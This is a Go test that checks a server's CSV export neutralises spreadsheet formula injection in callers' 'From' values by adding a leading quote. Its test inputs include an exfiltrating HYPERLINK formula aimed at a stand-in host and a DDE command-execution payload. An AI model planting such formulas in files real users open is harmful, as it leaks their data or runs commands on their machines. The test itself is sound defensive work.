package server

import (
	"regexp"
	"strings"
	"testing"
)

// signedNumber is a cell a spreadsheet reads as a number, not a formula
// (an E.164 number such as +15550001111): left as it is.
var signedNumber = regexp.MustCompile(`^[+-]?[0-9]+(\.[0-9]+)?$`)

// TestExportCSVNeutralisesFormulas: a caller's From (or any text a call
// brings) that a spreadsheet would run as a formula is written with a
// leading quote in every CSV export (OWASP's rule: = + - @, tab, CR).
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	e := newInsightEnv(t)
	froms := []string{`=HYPERLINK("http://evil.example/?x="&A1,"x")`, "@SUM(1+1)", "-2+3", "+cmd|' /C calc'!A0", "\tTAB", "\rCR"}
	for _, from := range froms {
		e.playCall(t, from, func(string, tryResponse) []tryRequest { return nil })
	}
	waitCalls(t, e.adminEnv, len(froms))
	rows := exportCSV(t, e, "what=calls")
	got := map[string]bool{}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !signedNumber.MatchString(cell) {
				t.Errorf("cell %q of %q opens as a formula", cell, row)
			}
		}
		got[row[2]] = true
	}
	for _, from := range froms {
		if !got["'"+from] {
			t.Errorf("From %q is not exported as '%s; rows %q", from, from, rows)
		}
	}
}
